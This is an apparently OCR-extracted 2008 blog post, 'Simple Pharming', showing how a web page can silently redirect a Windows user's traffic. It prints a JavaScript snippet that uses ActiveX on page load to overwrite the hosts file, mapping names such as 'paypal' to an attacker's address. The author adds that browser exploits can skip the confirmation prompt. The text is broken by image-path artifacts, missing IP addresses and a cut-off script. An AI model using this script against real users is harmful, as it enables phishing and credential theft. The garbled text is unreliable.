Simple Pharming

May 5, 2008 – 5:17 AM

Today I decided to give a very brief example on pharming and why it’s so easy to pharm surfers with little or no skills. Usually, browser exploit writers give simple examples on how to read the boot files, or launch a calculator. There is so much you can do with Javascript that the best way to describe the toxic mix of browser exploits with Javascript will be an example to launch a pharming attack. The sheer beauty of pharming is that the surfer will almost never know that he has been compromised, because it is very silent. One way of quickly pharm surfers is to modify the hosts file on Windows.

The hosts file on XP is located at:


And consist of something like this:

# Copyright (c) 1993-1999Microsoft Corp.


# This is a sample HOSTS file used by Microsoft TCP/IP for Windows.


# This file contains the mappings of IP addresses to host names. Each

# entry should be kept on an individual line. The IP address should

# be placed in the first column followed by the corresponding host name.

# The IP address and the host name should be separated by at least one

# space.


# Additionally, comments (such as these) may be inserted on individual

# lines or following the machine name denoted by a '#' symbol.


# For example:


#          # source server#              # x client host       localhost

As you can see, the last line contains our address on which the lookup will be made when we type “localhost” into our browser. This is how these lookups are done these days. If the browser cannot locate it, it will try different combinations, like appending www and .com to the request. The most important thing toknow is, that if this file is modified it stays modified and it is very unobtrusive to it’s user because it only requires a one time write access. Sadly, Microsoft doesn’t seem to learn about the Active-X risks. As said before, I see no valid reason why Javascript should have write access to the file system.

The script below requires user confirmation in the browser, but like I said some browser exploits will take care of this. It means that you can be pharmed withoutyou knowing it happened. That is the most scary part about it, and why browser exploits are so dangerous.In the script below we just route any traffic to our evil IP with only a small piece of Javascript that overwrites the surfers hosts file.



<script language="javascript">

function pharmer(){

var fso = new ActiveXObject("Scripting.FileSystemObject");

var pharm =fso.CreateTextFile("C:\\WINDOWS\\system32\\Drivers\\etc\\hosts", true);

pharm.WriteLine('       localhost');

pharm.WriteLine('    paypal');<body onLoad="pharmer()">



Et Voila, that’s all there really is for a very basic pharming attack, obviously there are more ways but this gives a good example on what pharming exactly is and does, and how easy it actually can be.

Source: 0x000000

You must belogged in to post a comment.